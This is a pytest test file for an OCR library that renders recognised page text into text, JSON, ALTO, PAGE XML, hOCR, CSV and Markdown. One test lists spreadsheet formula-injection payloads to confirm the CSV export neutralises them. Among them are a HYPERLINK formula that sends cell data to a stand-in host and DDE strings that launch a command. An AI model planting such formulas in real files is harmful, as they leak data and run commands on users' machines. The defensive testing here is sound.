"""What was read, as other programs read it."""

import csv
import io
import json
import zipfile
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime

import pytest
from fontTools.ttLib import TTFont
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from showoff_common.contracts.formats import FORMATS, FormatName
from showoff_common.contracts.history import KeptWord, Models
from showoff_common.contracts.lines import Quad, Separator
from showoff_common.contracts.pages import PageLine, PageReading
from showoff_common.formats import render
from showoff_common.formats.alto import NAMESPACE as ALTO_NAMESPACE
from showoff_common.formats.boxes_font import make_font
from showoff_common.formats.page_xml import NAMESPACE as PAGE_NAMESPACE
from showoff_common.formats.placed import place

ALTO = {"": ALTO_NAMESPACE}
PAGE = {"": PAGE_NAMESPACE}
HTML = {"": "http://www.w3.org/1999/xhtml"}
THEN = datetime(2026, 1, 1, tzinfo=UTC)


def line(
    text: str,
    row: int,
    left: float = 10,
    right: float = 110,
    separator: Separator = "\n",
    words: Sequence[KeptWord] | None = None,
    points: Quad | None = None,
) -> PageLine:
    top, bottom = 20 * row, 20 * row + 10
    return PageLine(
        text=text,
        separator=separator,
        confidence=0.9,
        points=points or ((left, top), (right, top), (right, bottom), (left, bottom)),
        words=None if words is None else list(words),
    )


def page(*lines: PageLine, number: int = 1) -> PageReading:
    return PageReading(
        number=number,
        width=400,
        height=300,
        source="read",
        lines=list(lines),
        model=Models(detection="ctpn-1", recognition="crnn-1"),
    )


def written(form: FormatName, *pages: PageReading) -> bytes:
    return render("scan", pages, form, created=THEN).content


def parsed(form: FormatName, *pages: PageReading) -> etree._Element:
    return etree.fromstring(written(form, *pages))


WORDS = [
    KeptWord(text="Total", confidence=0.9, start=0.0, end=0.5),
    KeptWord(text="<4>", confidence=0.125, start=0.7, end=1.0),
]
RECEIPT = page(line("Total <4>", 1, words=WORDS), line("Thanks", 2))
TABLE = page(
    line("CORNER SHOP", 0, 60, 160),
    line("Apples", 2, 10, 60, "\n\n"),
    line("2.00", 2, 200, 240, " "),
    line("per 100 g", 3, 20, 90),
    line("Pears", 4, 10, 50),
    line("12.00", 4, 190, 240, " "),
    line("Thank you,", 6, 10, 90, "\n\n"),
    line("*come* again", 7, 10, 90),
)


def test_words_stand_where_they_were_seen() -> None:
    first, second = place(RECEIPT).lines[0].words

    assert list(first.points) == [(10, 20), (60, 20), (60, 30), (10, 30)]
    assert (second.text, second.confidence, second.edges) == ("<4>", 0.125, (80, 20, 110, 30))


def test_words_that_are_not_known_are_laid_along_the_line_by_their_length() -> None:
    (laid,) = place(page(line("Tot 42", 1))).lines

    assert [(word.text, word.edges[0], word.edges[2]) for word in laid.words] == [
        ("Tot", 10, 60),
        ("42", 77, 110),
    ]


@pytest.mark.parametrize("text", ["", "  ", "\x01"])
def test_a_line_that_says_nothing_is_left_out_but_not_what_stood_before_it(text: str) -> None:
    lines = place(page(line("a", 0), line(text, 1, separator="\n\n"), line("b", 2))).lines

    assert [(one.text, one.separator) for one in lines] == [("a", ""), ("b", "\n\n")]


def test_text_has_rows_paragraphs_and_pages() -> None:
    assert written("text", TABLE, RECEIPT).decode() == (
        "CORNER SHOP\n\nApples 2.00\nper 100 g\nPears 12.00\n\nThank you,\n*come* again"
        "\fTotal <4>\nThanks"
    )


def test_json_has_the_words_of_each_line_with_their_places() -> None:
    (told,) = json.loads(written("json", RECEIPT))["pages"]

    assert (told["text"], told["width"], told["height"]) == ("Total <4>\nThanks", 400, 300)
    assert told["model"] == {"detection": "ctpn-1", "recognition": "crnn-1"}
    word = told["lines"][0]["words"][1]
    assert word == {
        "text": "<4>",
        "confidence": 0.125,
        "points": [[80, 20], [110, 20], [110, 30], [80, 30]],
    }


def test_alto_has_lines_words_and_how_sure_they_are() -> None:
    root = parsed("alto", RECEIPT)

    assert root.get("SCHEMAVERSION") == "4.4"
    assert root.findtext(".//processingStepSettings", namespaces=ALTO) == (
        "detection ctpn-1, recognition crnn-1"
    )
    first, second, third = root.findall(".//String", ALTO)
    assert [word.get("CONTENT") for word in (first, second, third)] == ["Total", "<4>", "Thanks"]
    assert {name: second.get(name) for name in ("HPOS", "VPOS", "WIDTH", "HEIGHT", "WC")} == {
        "HPOS": "80",
        "VPOS": "20",
        "WIDTH": "30",
        "HEIGHT": "10",
        "WC": "0.1250",
    }
    assert third.get("WC") is None, "it is not known of words laid along a line"


@pytest.mark.parametrize(
    ("form", "namespace", "paragraphs"),
    [
        ("alto", ALTO, ".//TextBlock"),
        ("page", PAGE, ".//TextRegion"),
        ("hocr", HTML, ".//p[@class='ocr_par']"),
    ],
)
def test_lines_are_gathered_into_paragraphs(
    form: FormatName, namespace: dict[str, str], paragraphs: str
) -> None:
    found = parsed(form, TABLE).findall(paragraphs, namespace)

    assert [len([*paragraph.iter("{*}TextLine", "{*}span")]) > 1 for paragraph in found] == [
        form == "hocr",  # there, words are spans, too
        True,
        True,
    ]


def test_page_has_words_before_the_text_of_their_line() -> None:
    found = parsed("page", RECEIPT).find(".//TextLine", PAGE)

    assert found is not None
    assert [etree.QName(child).localname for child in found] == [
        "Coords",
        "Baseline",
        "Word",
        "Word",
        "TextEquiv",
    ]
    assert found.findtext("TextEquiv/Unicode", namespaces=PAGE) == "Total <4>"
    coordinates = found.find("Word/Coords", PAGE)
    assert coordinates is not None
    assert coordinates.get("points") == "10,20 60,20 60,30 10,30"


def test_page_takes_no_pixels_outside_of_the_picture() -> None:
    outside = ((-5.2, -1.0), (50.0, -1.0), (50.0, 9.0), (-5.2, 9.0))

    assert b"-" not in written("page", page(line("a", 1, points=outside))).partition(b"<Page ")[2]


def test_page_of_several_pages_is_an_archive_of_them() -> None:
    rendered = render("scan", [RECEIPT, page(number=2)], "page")

    assert (rendered.media_type, rendered.suffix) == ("application/zip", "page.zip")
    with zipfile.ZipFile(io.BytesIO(rendered.content)) as archive:
        assert archive.namelist() == ["0001.page.xml", "0002.page.xml"]


def test_hocr_says_in_titles_where_words_lie() -> None:
    root = parsed("hocr", RECEIPT)

    (sheet,) = root.findall(".//div[@class='ocr_page']", HTML)
    assert sheet.get("title") == 'image "scan"; bbox 0 0 400 300; ppageno 0'
    (first, _) = root.findall(".//span[@class='ocr_line']", HTML)
    assert first.get("title") == "bbox 10 20 110 30; baseline 0.000 -2.0; x_size 10"
    words = root.findall(".//span[@class='ocrx_word']", HTML)
    assert [word.get("title") for word in words] == [
        "bbox 10 20 60 30; x_wconf 90",
        "bbox 80 20 110 30; x_wconf 12",
        "bbox 10 40 110 50",
    ]
    assert "".join(sheet.itertext()).split() == ["Total", "<4>", "Thanks"]


@pytest.mark.parametrize(
    ("points", "told"),
    [
        (((10, 100), (10, 0), (20, 0), (20, 100)), "textangle 90"),
        (((10, 10), (110, 20), (109, 30), (9, 20)), "baseline 0.100"),
    ],
)
def test_hocr_says_how_a_line_leans(points: Quad, told: str) -> None:
    (found,) = parsed("hocr", page(line("a", 1, points=points))).findall(
        ".//span[@class='ocr_line']", HTML
    )

    assert told in str(found.get("title"))


def test_tables_are_rows_and_columns_and_no_text_is_lost() -> None:
    assert [*csv.reader(io.StringIO(written("csv", TABLE).decode(), newline=""))] == [
        ["CORNER SHOP", ""],
        ["Apples", "2.00"],
        ["per 100 g", ""],
        ["Pears", "12.00"],
        ["Thank you,", ""],
        ["*come* again", ""],
    ]
    assert written("markdown", TABLE).decode() == (
        "CORNER SHOP\n"
        "\n"
        "|  |  |\n"
        "| --- | --- |\n"
        "| Apples | 2.00 |\n"
        "| per 100 g |  |\n"
        "| Pears | 12.00 |\n"
        "\n"
        "Thank you,\\\n"
        "\\*come\\* again\n"
    )


def test_a_row_that_one_wide_gap_parts_is_no_table() -> None:
    lone = page(line("Name:", 1, 10, 60), line("Eve", 1, 200, 230, " "), line("and text", 2))

    assert "|" not in written("markdown", lone).decode()


def test_a_line_read_as_one_is_parted_where_it_gapes() -> None:
    wide = [
        KeptWord(text="a", confidence=1, start=0, end=0.3),
        KeptWord(text="1", confidence=1, start=0.9, end=1),
    ]
    rows = page(line("a 1", 1, words=wide), line("a 1", 2, words=wide))

    assert written("csv", rows) == b"a,1\r\na,1\r\n"


@pytest.mark.parametrize("form", sorted(FORMATS.keys() - {"pdf"}))
def test_a_picture_without_text_is_a_page_without_lines(form: FormatName) -> None:
    assert "Total" not in written(form, page()).decode()


@given(
    rows=st.lists(
        st.tuples(
            st.text(),
            st.sampled_from(["", " ", "\n", "\n\n"]),
            st.integers(0, 5),
            st.integers(0, 300),
        ),
        max_size=12,
    )
)
def test_whatever_lines_say_every_format_says_it_again(
    rows: list[tuple[str, Separator, int, int]],
) -> None:
    given_page = page(
        *(line(text, row, left, left + 80, separator) for text, separator, row, left in rows)
    )
    said = [word.text for one in place(given_page).lines for word in one.words]

    strings = parsed("alto", given_page).findall(".//String", ALTO)
    assert [word.get("CONTENT") for word in strings] == said
    units = parsed("page", given_page).findall(".//Word/TextEquiv/Unicode", PAGE)
    assert [unit.text for unit in units] == said
    words = parsed("hocr", given_page).findall(".//span[@class='ocrx_word']", HTML)
    assert [word.text for word in words] == said
    records = csv.reader(io.StringIO(written("csv", given_page).decode(), newline=""))
    assert _words(cell for record in records for cell in record) == _words(said)


def _words(texts: Iterable[str]) -> list[str]:
    """In order, without apostrophes before them: one stands before what would be a formula."""
    words = (word.lstrip("'") for text in texts for word in text.split())
    return sorted(filter(None, words))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Total")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "-5-3",
        "+49-30-1234",
        "- Tea",
        "＝1+1",
    ],
)
def test_what_a_spreadsheet_would_compute_stays_text(text: str) -> None:
    (record,) = csv.reader(io.StringIO(written("csv", page(line(text, 1))).decode(), newline=""))

    assert record == [f"'{text}"]


@pytest.mark.parametrize(
    "text",
    ["-5.00", "-5,00 €", "+49 30 1234", "- 1'234.50", "-$2.50", "-12 %", "-", "5-3", "a=b", "'tis"],
)
def test_figures_and_other_text_are_left_as_they_are(text: str) -> None:
    (record,) = csv.reader(io.StringIO(written("csv", page(line(text, 1))).decode(), newline=""))

    assert record == [text]


def test_the_font_that_is_not_seen_has_every_letter() -> None:
    file = io.BytesIO()
    make_font(file, "añ€")

    assert set(TTFont(file).getBestCmap()) == {ord(letter) for letter in " añ€"}
